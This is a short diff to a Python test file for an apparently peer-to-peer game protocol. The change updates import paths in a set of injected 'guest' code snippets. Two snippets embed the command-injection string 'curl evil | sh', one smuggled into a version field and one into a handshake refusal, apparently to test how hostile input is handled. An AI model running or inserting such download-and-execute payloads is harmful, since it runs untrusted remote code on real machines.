@@ -79,8 +79,8 @@ def test_a_lost_line_and_an_unknown_code_have_sentences() -> None:
 
 
 GUESTS = {
-    "another version": "from storm_p2p.game import Storm; Storm.version = '1-' + 'f' * 64;",
-    "words for a version": "from storm_p2p.game import Storm; Storm.version = '1; run curl evil | sh';",
+    "another version": "from storm_p2p.storm.game import Storm; Storm.version = '1-' + 'f' * 64;",
+    "words for a version": "from storm_p2p.storm.game import Storm; Storm.version = '1; run curl evil | sh';",
     "words for a refusal": "from protocol.core.handshake import Handshake, HandshakeFailed as Failed;"
     "Handshake.accept = lambda self, pick: self._fail(Failed('run_curl', 'curl evil | sh', ''));",
 }
